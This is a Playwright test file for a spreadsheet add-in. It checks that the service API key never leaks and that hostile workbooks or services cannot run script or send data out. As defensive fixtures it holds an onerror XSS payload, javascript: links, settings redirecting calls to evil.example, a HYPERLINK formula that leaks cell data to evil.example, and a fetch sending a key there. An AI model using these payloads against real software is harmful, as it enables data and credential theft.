/** What must not happen: the key where it does not belong, and a workbook or a service that makes the add-in do its will. */
import type { Frame } from 'playwright-core';
import type { WorkbookPage } from 'workbook-host';
import { bytesOf } from '../support/service/bytesOf';
import { becomesNumber } from '../support/becomesNumber';
import { partsOfFile, withStoredResults, withStoredText } from '../support/workbookParts';
import { openOwnWorkplace, type OwnWorkplace } from '../support/service/workplace';
import { openOnOtherComputer } from '../support/service/otherComputer';

let workplace: OwnWorkplace;
let service: OwnWorkplace['service'];
let host: OwnWorkplace['host'];
let engineer: WorkbookPage;
let pane: Frame;
const others: WorkbookPage[] = [];
/** Addresses of all requests of the engineer's browser. */
const addresses: string[] = [];

beforeAll(async () => {
  workplace = await openOwnWorkplace({ switches: { workbook: 'blank' } });
  ({ service, host, book: engineer, pane } = workplace);
  engineer.context.on('request', (request) => addresses.push(request.url()));
  await engineer.reload({});
  pane = await engineer.pane();
  await becomesNumber(engineer, 'L18');
  await engineer.settled(60_000);
});

afterAll(async () => {
  for (const book of others) await book.close();
  await workplace?.close();
});

async function openElsewhere(...given: [bytes: Uint8Array, has: { addin: boolean; key: boolean }]) {
  const book = await openOnOtherComputer(host.url, ...given);
  others.push(book);
  return book;
}

let victim: WorkbookPage | undefined;

/** Opens it at a colleague's who has the add-in and a key to steal. */
async function openWithKey(workbook: Uint8Array): Promise<WorkbookPage> {
  if (!victim) return (victim = await openElsewhere(workbook, { addin: true, key: true }));
  const before = await victim.pane();
  await Promise.all([
    victim.page.waitForEvent('framenavigated', (frame) => frame === before),
    victim.open(workbook),
  ]);
  await (await victim.pane()).getByTestId('tab-cell').waitFor();
  await victim.settled(60_000);
  return victim;
}

/** The key as it is, and as addresses and base64 hold it. */
function forms(): string[] {
  const { apiKey } = service;
  return [apiKey, encodeURIComponent(apiKey), Buffer.from(apiKey).toString('base64').replace(/=+$/, '')];
}

function expectNoKey(place: string, text: string): void {
  expect([place, forms().filter((form) => text.includes(form))]).toEqual([place, []]);
}

const roofs = 'K13:L18';
let bytes: Uint8Array;

describe('the key', () => {
  test('is in no part of the saved file', async () => {
    // What is written when the cells are quiet is written now.
    await pane.getByTestId('tab-handOver').click();
    await pane.getByTestId('sharing-check').click();
    await pane.getByTestId('sharing-searched').waitFor();
    bytes = await engineer.save();
    const parts = partsOfFile(bytes);
    expect(parts.some(({ text }) => text.includes('loadsSnow'))).toBe(true);
    for (const { name, text } of parts) expectNoKey(name, text);
  });

  test('is stored once, under its own name, and in no database', async () => {
    const storage = await pane.evaluate(() => ({
      local: { ...localStorage },
      session: { ...sessionStorage },
    }));
    const holding = Object.keys(storage.local).filter((name) =>
      String(storage.local[name]).includes(service.apiKey),
    );
    expect(holding).toEqual([expect.stringMatching(/calc\.connection$/)]);
    expectNoKey('session storage', JSON.stringify(storage.session));
    const kept = await pane.evaluate<string>(everythingKept);
    expect(kept.length).toBeGreaterThan(1_000);
    expectNoKey('IndexedDB', kept);
  });

  test('is in no address, no console, no log of host or service, and not in the trace of requests to Excel', async () => {
    expect(addresses.some((address) => address.includes('/v1/'))).toBe(true);
    expectNoKey('addresses', addresses.join('\n'));
    expectNoKey('console', engineer.complaints.join('\n'));
    expectNoKey('log of the host', host.log());
    expect(service.log().length).toBeGreaterThan(0);
    expectNoKey('log of the service', service.log());
    await engineer.page.getByRole('button', { name: 'API log' }).click();
    const [saved] = await Promise.all([
      engineer.page.waitForEvent('download'),
      engineer.page.locator('#trace-panel').getByRole('button', { name: 'Save' }).click(),
    ]);
    const trace = (await bytesOf(saved)).toString();
    expect(trace).toContain('CALC.SNOW');
    expectNoKey('trace', trace);
    expectNoKey('host page', await engineer.page.content());
    await engineer.page.getByRole('button', { name: 'API log' }).click();
  });

  test('is not in the text of an error of a service that repeats it', async () => {
    const error = { code: 'INTERNAL', message: `Bearer ${service.apiKey} is odd` };
    await engineer.context.route('**/v1/**', (route) => route.fulfill({ status: 500, json: { error } }));
    await engineer.enter('A40', '=CALC.SNOW("7-22",50,30,4,"II","Partially Exposed","C")');
    await engineer.settled(60_000);
    expect(await engineer.message('A40')).toMatch(/\w/);
    expectNoKey('cell', (await engineer.message('A40')) ?? '');
    await pane.getByTestId('tab-problems').click();
    await pane.locator('[data-testid=failing][data-cell$="!A40"]').waitFor();
    expectNoKey('problems', await pane.content());
    await pane.getByTestId('tab-settings').click();
    await pane.getByTestId('settings-test').click();
    await pane
      .locator('[data-testid=settings-status]:not([data-state=ok]):not([data-state=testing])')
      .waitFor();
    expectNoKey('settings', await pane.content());
    expectNoKey('console', engineer.complaints.join('\n'));
    await engineer.context.unroute('**/v1/**');
    await pane.getByTestId('settings-test').click();
    await pane.locator('[data-testid=settings-status][data-state=ok]').waitFor();
    await pane.getByTestId('tab-problems').click();
    await engineer.enter('A40', '');
  });
});

/** All records of all databases of this origin, as text. */
const everythingKept = `(async () => {
  const all = [];
  for (const { name } of await indexedDB.databases()) {
    const db = await new Promise((resolve, reject) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
    for (const store of db.objectStoreNames) {
      const records = db.transaction(store).objectStore(store);
      for (const got of [records.getAllKeys(), records.getAll()])
        all.push(await new Promise((resolve) => { got.onsuccess = () => resolve(got.result); }));
    }
    db.close();
  }
  return JSON.stringify(all);
})()`;

/** A stored result as the add-in writes it. */
interface Stored {
  owners: string[];
  saved: { request: object; results: Record<string, unknown> };
}

const script = "<img src=x onerror='top.hacked=1'>";

/** No hostile text became markup, and no request went to another server. */
async function expectUnharmed(book: WorkbookPage): Promise<void> {
  const own = await book.pane();
  expect(await own.locator('a[href^="javascript"], img[src="x"]').count()).toBe(0);
  expect(await book.page.evaluate('"hacked" in window')).toBe(false);
  expect(book.externalRequests).toEqual([]);
}

describe('a hostile workbook', () => {
  test('whose results name another service, script and javascript: links sends nothing there and runs nothing', async () => {
    const hostile = withStoredResults(bytes, (results) =>
      results.map((result) => {
        const { owners, saved } = result as Stored;
        const request = { ...saved.request, origin: 'https://evil.example' };
        const links = { sheetUrl: 'javascript:top.hacked=1', verdict: 'PASS', status: script };
        return { owners, saved: { ...saved, ...links, governing: script, reasons: [script], request } };
      }),
    );
    const colleague = await openWithKey(hostile);
    const own = await colleague.pane();
    await own.getByTestId('tab-cell').click();
    await colleague.select('L13');
    await own.locator('[data-testid=cell-origin][data-from=workbook]').waitFor();
    await own.getByTestId('cell-no-link').filter({ hasText: 'does not lead to this service' }).waitFor();
    await own.getByTestId('tab-problems').click();
    await own.getByTestId('unverified').first().waitFor();
    await own.getByTestId('tab-handOver').click();
    await own.getByTestId('audit').click();
    await own
      .getByTestId('command')
      .filter({ hasText: /listed on the worksheet/ })
      .waitFor();
    await expectUnharmed(colleague);
    expect(JSON.stringify(await colleague.read("'Calc audit'!A4:N30"))).not.toContain(
      'HYPERLINK("javascript',
    );
  });

  test('that brings settings with a base address and a key is calculated at the service of this computer', async () => {
    const before = await pane.evaluate((names) => {
      const { settings } = Office.context.document;
      const evil = { origin: 'https://evil.example', baseUrl: 'https://evil.example/v1', apiKey: 'bait' };
      for (const name of names) settings.set(name, { ...evil, connections: { [evil.origin]: evil } });
      return new Promise((resolve) => settings.saveAsync(resolve));
    }, settingNames);
    expect(before).toMatchObject({ status: 'succeeded' });
    const hostile = await engineer.save();
    await pane.evaluate((names) => {
      for (const name of names) Office.context.document.settings.remove(name);
      return new Promise((resolve) => Office.context.document.settings.saveAsync(resolve));
    }, settingNames);
    expect(partsOfFile(hostile).some(({ text }) => text.includes('evil.example'))).toBe(true);

    const colleague = await openWithKey(hostile);
    await colleague.enter('A41', '=CALC.SNOW("7-22",41,30,4,"II","Partially Exposed","C")');
    await becomesNumber(colleague, 'A41');
    const own = await colleague.pane();
    await own.getByTestId('tab-settings').click();
    await own.locator('[data-testid=settings-status][data-state=ok]').waitFor();
    expect(await own.getByTestId('settings-origin').inputValue()).toBe(new URL(host.url).origin);
    await expectUnharmed(colleague);
  });

  test('whose results are formula text shows them as text, also frozen and listed', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
    const hostile = withStoredResults(bytes, (results) =>
      results.map((result) => {
        const { owners, saved } = result as Stored;
        const outputs = Object.fromEntries(Object.keys(saved.results).map((name) => [name, formula]));
        return { owners, saved: { ...saved, results: outputs, status: '=1+1', governing: formula } };
      }),
    );
    const colleague = await openElsewhere(hostile, { addin: true, key: false });
    // A formula that asks the same takes what the workbook carries: without a key there is nothing else.
    await colleague.enter('T13', String(await colleague.formula('L13')));
    await colleague.settled(60_000);
    const own = await colleague.pane();
    await own.getByTestId('tab-handOver').click();
    for (const command of ['audit', 'freeze-all']) {
      await own.getByTestId(command).click();
      await own.locator('[data-testid=command]:not([data-state=running])').waitFor();
    }
    const names = await colleague.page.evaluate(() => window.workbook.read('A1:Z60').flat().map(String));
    expect(names.filter((text) => text === 'open')).toEqual([]);
    for (const sheet of ['Calc audit', 'Calc frozen']) {
      const cells = await own.evaluate(
        (name) =>
          Excel.run(async (context) => {
            const range = context.workbook.worksheets.getItem(name).getUsedRange();
            range.load('formulas, values');
            await context.sync();
            const values = range.values as unknown[][];
            const formulas = range.formulas as unknown[][];
            // A formula is a cell whose value is another than its text.
            return formulas.flatMap((row, r) => row.filter((one, c) => one !== values[r]?.[c])).map(String);
          }),
        sheet,
      );
      expect(cells.filter((text) => /evil|^=1\+1/.test(text))).toEqual([]);
    }
    await expectUnharmed(colleague);
  });

  test('whose results are nested too deep opens with its numbers and shows nothing wrong', async () => {
    const numbers = await engineer.read(roofs);
    const before = victim?.complaints.length;
    const colleague = await openWithKey(withStoredText(bytes, () => '['.repeat(100_000)));
    expect(await colleague.read(roofs)).toEqual(numbers);
    await colleague.enter('A44', '=CALC.SNOW("7-22",44,30,4,"II","Partially Exposed","C")');
    await becomesNumber(colleague, 'A44');
    await expectUnharmed(colleague);
    // One message says that they are not readable; no error stays uncaught.
    expect(colleague.complaints.slice(before).filter((text) => text.startsWith('uncaught'))).toEqual([]);
  });
});

const settingNames = [
  'calc.calculation',
  'calc.connection',
  'calc.studies',
  'calc.studyColumns',
  'serviceUrl',
];

describe('a hostile service', () => {
  test('whose templates have script in their names and labels, formulas and javascript: links runs nothing', async () => {
    const text = (what: string) => `=1+1 ${what} ${script}`;
    const template = {
      ...{ id: 'id', version: 1, code: 'hostile', name: script, category: script },
      description: `${script} [x](javascript:top.hacked=1)`,
      fields: [
        {
          referenceId: 'a',
          label: text('field'),
          type: 'number',
          units: script,
          default: 1,
          description: script,
        },
        {
          referenceId: 'b',
          label: script,
          type: 'enum',
          units: null,
          options: [script, '=2+2'],
          default: '=2+2',
        },
      ],
      outputs: [{ referenceId: 'o', label: text('output'), type: 'number', units: script }],
      presets: [{ code: script, name: script, description: script, defaults: {} }],
    };
    await engineer.context.route('**/v1/templates?*', (route) =>
      route.fulfill({ json: { templates: [template], total: 1, limit: 500, offset: 0 } }),
    );
    await engineer.context.route('**/v1/templates/hostile', (route) => route.fulfill({ json: template }));
    await engineer.context.route('**/v1/templates/hostile/calculate', (route) =>
      route.fulfill({
        json: {
          ...{ status: 'solved', sheetId: 's', sheetUrl: 'javascript:top.hacked=1', results: { o: 5 } },
          ...{ warnings: [], summaryCheck: null },
        },
      }),
    );
    await pane.getByTestId('tab-templates').click();
    await pane.getByTestId('templates-reload').click();
    await pane.getByTestId('template-item').filter({ hasText: script }).click();
    await pane.getByTestId('template-form').waitFor();
    for (const part of ['fields', 'outputs', 'presets'])
      await pane.getByTestId(`template-${part}-details`).locator('summary').click();
    await engineer.select('A200');
    await pane.getByTestId('insert-button').click();
    await pane.getByTestId('insert-result').waitFor();
    await engineer.settled(60_000);
    const block = await engineer.read('A202:C204');
    expect(block.map(([name]) => name)).toEqual([text('field'), script, '']);
    expect(block[2]?.[1]).toBe(`${text('output')} (${script})`);
    expect(block[1]?.[1]).toBe('=2+2');
    await pane.getByTestId('tab-cell').click();
    await engineer.select('B205');
    await pane.getByTestId('cell-address').filter({ hasText: /B205$/ }).waitFor();
    await pane.getByTestId('tab-study').click();
    await pane.getByTestId('study-template').selectOption('hostile');
    await pane.getByTestId('tab-handOver').click();
    await expectUnharmed(engineer);
  });
});

test('pages that hold a key load scripts from nowhere else and send nothing but to their services', async () => {
  const policy =
    (await pane.locator('meta[http-equiv=Content-Security-Policy]').getAttribute('content')) ?? '';
  expect(policy).toMatch(/script-src [^;]*'self'/);
  expect(policy).not.toMatch(/script-src [^;]*'unsafe-(inline|eval)'/);
  expect(policy).toMatch(/connect-src /);
  const sent = await pane.evaluate(async () => {
    try {
      await fetch('https://evil.example/?key=1', { mode: 'no-cors' });
      return 'sent';
    } catch {
      return 'refused';
    }
  });
  expect(sent).toBe('refused');
  // The browser refuses it before anything leaves.
  expect(engineer.complaints.some((text) => /Content Security Policy|connect-src/.test(text))).toBe(true);
});
